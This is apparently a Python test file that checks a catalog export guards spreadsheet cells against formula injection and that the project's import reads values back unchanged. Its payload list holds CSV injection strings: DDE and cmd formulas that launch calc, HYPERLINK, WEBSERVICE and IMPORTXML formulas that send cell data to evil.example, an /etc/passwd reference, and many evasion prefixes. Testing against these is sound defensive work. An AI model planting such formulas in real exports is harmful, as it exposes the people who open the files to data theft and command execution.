"""No spreadsheet program runs what a buyer typed, and our own import reads it as it was typed."""

import csv
import io
import re
from collections.abc import Iterable, Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from models import Dialect
from models.csv_style import BYTE_ORDER_MARK, Style, write
from models.formulas import guarded, unguarded
from services.catalog_import import reading

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    "2+5+cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?x="&A1,"Click")',
    'WEBSERVICE("https://evil.example/"&A1)',
    'IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "SUM(1+9)*cmd|' /C calc'!A0",
    "MSEXCEL|'\\\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "'file:///etc/passwd'#$passwd.A1",
    "A1;B1",
    "A1,B1",
    "a \n=b",
)
PREFIXES = (
    "\t", "\r", "\n", "\r\n", " ", "   ", "\u00a0", "\u3000", "\u2003", "\u200b", "\ufeff", "\u200e", "\u202e",
    "\x00", "\x0b", "\x1f", "\xad", "'", "''", '"', '""', "\"'", ",", ";", ", ", ';"', '","', '";"', ",'", "x,", "x;",
    "x\t", "x\n", "x\r", "x\r\n", 'x"\n"', "x\n;", "12;\u200b", "%0A,", "x;;", "\n\n", "\t\t", "x, \t",
)  # fmt: skip
PAYLOADS = tuple(
    dict.fromkeys(
        [sign + body for sign in SIGNS for body in BODIES]
        + [prefix + sign + body for prefix in PREFIXES for sign, body in (("=", BODIES[0]), ("@", BODIES[7]))]
        + [f"{prefix}{sign}{BODIES[1]}" for prefix in PREFIXES[:20] for sign in "+-＝"]
        + ["\t", "\r", "\n", "-", "=", "+49 30 1234", "-5", "@cmd", "=\t=", "- one\n- two"]
    )
)
LINE_ENDS = re.compile(r"\r\n|\r|\n")
HEAD = ["SKU", "Name", "Price"]
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # refused at the edge, wherever text comes in
LANGUAGES = ("en", "es")


def style(dialect: Dialect, language: str) -> Style:
    return Style.of(dialect, language=language, time_zone="Europe/Madrid")


def cells_as_programs_see_them(content: str) -> Iterator[str]:
    """The cells, whichever delimiter a program takes and whether or not it heeds quotation marks."""
    for delimiter in ",;\t":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            for lines in (io.StringIO(content, newline=""), LINE_ENDS.split(content)):
                for row in csv.reader(lines, delimiter=delimiter, quoting=quoting):
                    yield from row


def formulas(content: str) -> list[str]:
    """The cells that run, at best only in a program that cuts off all that is not seen."""
    unseen = "".join(map(chr, [*range(33), *range(127, 161)])) + '\xad\u2003\u200b\u200e\u202e\u3000\ufeff"'
    return [cell for cell in cells_as_programs_see_them(content) if cell.strip(unseen).startswith(tuple(SIGNS))]


def rows(payloads: Iterable[str]) -> list[list[str]]:
    return [HEAD, *([f"A{number}", payload, "1"] for number, payload in enumerate(payloads))]


def test_there_are_hundreds_of_payloads() -> None:
    assert len(PAYLOADS) >= 200


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_spreadsheet_for_people_runs_none_of_them(language: str) -> None:
    for payload in PAYLOADS:
        content = write(rows([payload]), style(Dialect.SPREADSHEET, language))
        assert formulas(content) == [], repr(payload)


def test_the_check_finds_what_is_not_guarded() -> None:
    for payload in PAYLOADS:
        if payload.strip() and not re.search(f"'[{re.escape(SIGNS)}]", payload):
            assert formulas(write(rows([payload]), style(Dialect.MACHINE, "en"))), repr(payload)


@pytest.mark.parametrize("language", LANGUAGES)
def test_they_come_back_through_our_own_import_as_they_were_typed(language: str) -> None:
    for payload in (CONTROL.sub("", payload) for payload in PAYLOADS):
        content = BYTE_ORDER_MARK + write(rows([payload]), style(Dialect.SPREADSHEET, language))
        source = reading.read("orders.csv", content.encode())
        assert source.rows[0].cells == ("A0", reading._clean(payload), "1"), repr(payload)


@given(st.one_of(st.text(), st.text(alphabet="'\"=+-@＝,;\t\r\n \u200bx")))
def test_any_text_is_the_same_again_once_the_guard_is_off(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(st.text(alphabet="'\"=+-@＝,;\t\r\n \u200bx"))
def test_no_text_runs_once_it_is_guarded(text: str) -> None:
    content = write(rows([text]), style(Dialect.SPREADSHEET, "es"))
    assert formulas(content) == []
